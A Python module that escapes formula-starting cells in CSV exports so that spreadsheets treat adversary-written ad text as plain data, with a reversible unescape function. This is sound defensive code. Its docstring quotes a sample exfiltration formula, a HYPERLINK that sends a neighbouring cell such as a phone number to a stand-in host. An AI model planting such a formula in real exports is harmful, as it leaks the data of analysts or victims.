"""CSV that a spreadsheet opens as data, never as formulas.

Ads are written by adversaries, and analysts open exports in Excel or LibreOffice. A cell
starting with `=`, `+`, `-`, `@` (or a tab or carriage return, which some spreadsheets skip
before looking for one of those) is read as a formula: `=HYPERLINK("http://x/?"&A1)` sends
a neighbouring cell, a possible victim's phone number, to another machine when clicked.
Every CSV tracelight writes goes through `SafeCsvWriter`, which prefixes such a cell with `'`
(the spreadsheet convention for "this is text"). Plain numbers (`-3`, `+12065550143`,
`0.75`) are left alone: they cannot be formulas. A value that itself starts with `'` before such
a character (or with `''`) gets one more `'`, so `unneutralise` gives back every value exactly.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

# ASCII formula starts, their full-width forms (some spreadsheets fold them), tab and CR.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _formula(value: str) -> bool:
    return value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value)


def _needs_quote(value: str) -> bool:
    """A formula, or a value that would be mistaken for an already-quoted one (`'=x`, `''`),
    so that `unneutralise` can always undo `neutralise`."""
    if value.startswith("''"):
        return True
    return _formula(value[1:] if value.startswith("'") else value)


def neutralise(value: str) -> str:
    """`value` with a leading `'` when a spreadsheet would read it as a formula."""
    return "'" + value if _needs_quote(value) else value


def unneutralise(cell: str) -> str:
    """The original value of a cell `neutralise` wrote (for programs reading our CSV)."""
    if cell.startswith("'") and _needs_quote(cell[1:]):
        return cell[1:]
    return cell


def safe_cell(value: Any) -> Any:
    """A cell ready for csv: strings neutralised, None as empty, numbers as they are."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    return value


class SafeCsvWriter:
    """csv.writer with every string cell neutralised (see the module docstring)."""

    def __init__(self, fh: IO[str], **fmtparams: Any) -> None:
        self._writer = csv.writer(fh, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
